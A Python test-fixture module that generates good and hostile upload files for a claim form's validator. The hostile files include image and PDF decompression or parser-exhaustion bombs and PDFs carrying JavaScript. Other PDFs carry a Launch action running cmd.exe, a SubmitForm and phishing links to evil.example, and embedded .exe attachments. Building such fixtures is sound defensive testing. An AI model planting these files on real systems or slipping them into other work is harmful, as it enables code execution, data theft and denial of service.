"""Real files of every kind the claim form meets, made on the spot: good invoices and bad ones."""

import functools
import io
import os
import re
import tempfile
from pathlib import Path

import pillow_heif
from fpdf import FPDF
from PIL import Image
from pillow_heif import from_pillow
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def jpeg(size=(1200, 1600), color=(240, 240, 230)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG", quality=85)
    return out.getvalue()


def png(size=(800, 600)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (255, 255, 255)).save(out, "PNG")
    return out.getvalue()


def heic(size=(640, 480)) -> bytes:
    out = io.BytesIO()
    from_pillow(Image.new("RGB", size, (200, 10, 10))).save(
        out, quality=60, enc_params={"preset": "ultrafast"}
    )
    return out.getvalue()


def pdf(text: str = "Faktura 2026-001 Bauhaus 499,00 kr") -> bytes:
    document = FPDF()
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=text)
    return bytes(document.output())


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    writer.encrypt(user_password="hemmelig", owner_password="ejer", algorithm="RC4-128")
    return _written(writer)


def pdf_with_javascript() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf()))
    action = {
        NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject("app.alert(1)"),
    }
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    return _written(writer)


def pdf_with_hidden_javascript_name() -> bytes:
    """/JavaScript spelled with a #-escape, which a byte search would miss."""
    return pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def png_bomb() -> bytes:
    """A few kilobytes that would unpack to 64 megapixels."""
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) // 2]


def damaged_pdf() -> bytes:
    return b"%PDF-1.7\n" + b"\x00garbage" * 200


# Hostile files: each is small to send and expensive, or dangerous, to open.


def heic_declaring(width: int, height: int) -> bytes:
    """A tiny real HEIC whose header (every `ispe` box) claims `width` x `height` pixels."""
    data = bytearray(heic((64, 64)))
    start = data.find(b"ispe")
    assert start > 0, "no ispe box in the HEIC"
    while start > 0:
        # box: size, "ispe", version and flags (4 bytes), width (4), height (4)
        data[start + 8 : start + 16] = width.to_bytes(4, "big") + height.to_bytes(4, "big")
        start = data.find(b"ispe", start + 4)
    return bytes(data)


def heic_bomb_header() -> bytes:
    """A HEIC of a few KB that declares 65,000 x 65,000 pixels (4 gigapixels)."""
    return heic_declaring(65_000, 65_000)


@functools.cache
def heic_7000() -> bytes:
    """A real 7000 x 7000 HEIC (49 megapixels) of ~12 KB: one grey colour compresses to nothing.
    Encoding it takes seconds of CPU, so it is made once per machine and encoder version, and
    kept in the temporary folder for every test process (each xdist worker, both phases)."""
    kept = Path(tempfile.gettempdir()) / f"borgerportal-heic-7000x7000-q10-{pillow_heif.__version__}.heic"
    if kept.exists():
        return kept.read_bytes()
    out = io.BytesIO()
    image = Image.new("L", (7000, 7000), 128)
    from_pillow(image).save(out, quality=10, enc_params={"preset": "ultrafast"})
    partial = kept.with_suffix(f".{os.getpid()}")
    partial.write_bytes(out.getvalue())
    partial.replace(kept)  # whole or not at all, if two processes make it at once
    return out.getvalue()


def raw_pdf(objects: list[bytes], extra_trailer: bytes = b"") -> bytes:
    """A PDF written by hand: `objects` are numbered from 1 (1 is the catalog), with a correct
    cross-reference table, so readers take it as a well-formed file."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        extra_trailer,
        xref,
    )
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def pdf_with_page_parts(catalog_extra: bytes = b"", page_extra: bytes = b"", more: tuple = ()) -> bytes:
    """A one-page PDF with `catalog_extra` in the catalog, `page_extra` in the page, and objects
    `more` numbered from 4 (so the extras can refer to them)."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE % page_extra,
            *more,
        ]
    )


def pdf_with_objects(count: int = 150_000, damaged_xref: bool = False) -> bytes:
    """A one-page PDF with `count` small objects, all reachable from the catalog (150,000: 9 MB).
    With `damaged_xref`, every cross-reference entry points at the wrong place, and a lenient
    reader searches the whole file for each object it needs: time grows with count squared."""
    first = 5
    references = b" ".join(b"%d 0 R" % number for number in range(first, first + count))
    parts = [b"<</K %d>>" % n for n in range(count)]
    data = pdf_with_page_parts(b"/Parts 4 0 R ", more=(b"[%s]" % references, *parts))
    if not damaged_xref:
        return data
    body, xref, table = data.rpartition(b"\nxref\n")
    return body + xref + re.sub(rb"\d{10} 00000 n", b"0000000010 00000 n", table)


def pdf_with_object_stream_claiming(count: int) -> bytes:
    """A small PDF whose object stream says it holds `count` objects."""
    stream = b"<< /Type /ObjStm /N %d /First 4 /Length 8 >>\nstream\n5 0 1 0 \nendstream" % count
    return pdf_with_page_parts(more=(stream,))


def deeply_nested_pdf(depth: int = 50_000) -> bytes:
    """Arrays inside arrays, `depth` levels deep, in the catalog: a reader that recurses dies."""
    return pdf_with_page_parts(b"/Deep %s%s " % (b"[" * depth, b"]" * depth))


def deeply_nested_page_tree_pdf(depth: int = 5_000) -> bytes:
    """Page-tree nodes inside page-tree nodes, `depth` levels deep, each its own object."""
    first = 4  # objects 4 .. 4+depth-1 are the nested /Pages nodes; the last one holds the page 3
    nodes = [
        b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>"
        % (first + level - 1 if level else 2, first + level + 1 if level < depth - 1 else 3)
        for level in range(depth)
    ]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] >>" % (first + depth - 1)
    return raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>", page, *nodes]
    )


# PDFs that carry active content: each opens something, runs something, or hides a file.
ACTION = b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /%s %s >> >>"


def pdf_with_link_action(action: bytes, details: bytes) -> bytes:
    """A PDF whose one page has a link that performs `action` (e.g. URI, GoToR, Launch)."""
    return pdf_with_page_parts(page_extra=b"/Annots [4 0 R] ", more=(ACTION % (action, details),))


def pdf_with_uri() -> bytes:
    return pdf_with_link_action(b"URI", b"/URI (https://evil.example/phish)")


def pdf_with_goto_remote() -> bytes:
    return pdf_with_link_action(b"GoToR", b"/F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]")


def pdf_with_goto_embedded() -> bytes:
    return pdf_with_link_action(b"GoToE", b"/T << /R /C /N (bilag.pdf) >>")


def pdf_with_launch() -> bytes:
    return pdf_with_link_action(b"Launch", b"/F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>")


def pdf_with_submit_form() -> bytes:
    return pdf_with_link_action(b"SubmitForm", b"/F << /FS /URL /F (https://evil.example/collect) >>")


def pdf_with_import_data() -> bytes:
    return pdf_with_link_action(b"ImportData", b"/F (data.fdf)")


def pdf_with_open_action_uri() -> bytes:
    """Opens a web address as soon as the file is opened, from the catalog's /OpenAction."""
    return pdf_with_page_parts(b"/OpenAction << /S /URI /URI (https://evil.example/) >> ")


EMBEDDED_FILE = b"<< /Type /EmbeddedFile /Length 12 >>\nstream\nMZ-not-a-pdf\nendstream"


def pdf_with_embedded_file() -> bytes:
    """A document-level attachment: /Names << /EmbeddedFiles ... >> with an /EF file stream."""
    names = b"/Names << /EmbeddedFiles << /Names [(bilag.exe) 4 0 R] >> >> "
    spec = b"<< /Type /Filespec /F (bilag.exe) /EF << /F 5 0 R >> >>"
    return pdf_with_page_parts(names, more=(spec, EMBEDDED_FILE))


def pdf_with_file_attachment_annotation() -> bytes:
    """A paper-clip on the page holding a file (a /FileAttachment annotation)."""
    annotation = b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>"
    spec = b"<< /Type /Filespec /F (bilag.exe) /EF << /F 6 0 R >> >>"
    return pdf_with_page_parts(page_extra=b"/Annots [4 0 R] ", more=(annotation, spec, EMBEDDED_FILE))


def pdf_with_xfa() -> bytes:
    """An XFA form (XML forms with scripts, read by Adobe Reader)."""
    xfa = b"<< /Length 44 >>\nstream\n<xdp:xdp><script>app.alert(1)</script></xdp>\nendstream"
    return pdf_with_page_parts(b"/AcroForm << /Fields [] /XFA 4 0 R >> ", more=(xfa,))


def pdf_with_form_field_script() -> bytes:
    """An ordinary form field whose 'keystroke' action (/AA /K) runs JavaScript."""
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (belob) /Rect [0 0 100 20] /P 3 0 R "
        b"/AA << /K << /S /JavaScript /JS 5 0 R >> >> >>"
    )
    script = b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream"
    return pdf_with_page_parts(
        b"/AcroForm << /Fields [4 0 R] >> ", page_extra=b"/Annots [4 0 R] ", more=(field, script)
    )


def pdf_with_plain_form() -> bytes:
    """A fillable form with no scripts at all: a plain invoice form is fine."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (belob) /V (499,00) /Rect [0 0 100 20] /P 3 0 R >>"
    return pdf_with_page_parts(
        b"/AcroForm << /Fields [4 0 R] >> ", page_extra=b"/Annots [4 0 R] ", more=(field,)
    )


def pdf_with_rich_media() -> bytes:
    """A /RichMedia annotation (Flash or video played inside the reader)."""
    annotation = (
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] "
        b"/RichMediaContent << /Assets << /Names [(film.swf) 5 0 R] >> >> >>"
    )
    spec = b"<< /Type /Filespec /F (film.swf) /EF << /F 6 0 R >> >>"
    return pdf_with_page_parts(page_extra=b"/Annots [4 0 R] ", more=(annotation, spec, EMBEDDED_FILE))


def pdf_with_javascript_in_names() -> bytes:
    """Document-level JavaScript from the /Names tree, run when the file opens."""
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    return pdf_with_page_parts(b"/Names << /JavaScript << /Names [(start) 4 0 R] >> >> ", more=(script,))


def pdf_with_internal_link() -> bytes:
    """A link to another place in the same document (/GoTo): harmless, and common in invoices."""
    return pdf_with_link_action(b"GoTo", b"/D [3 0 R /Fit]")
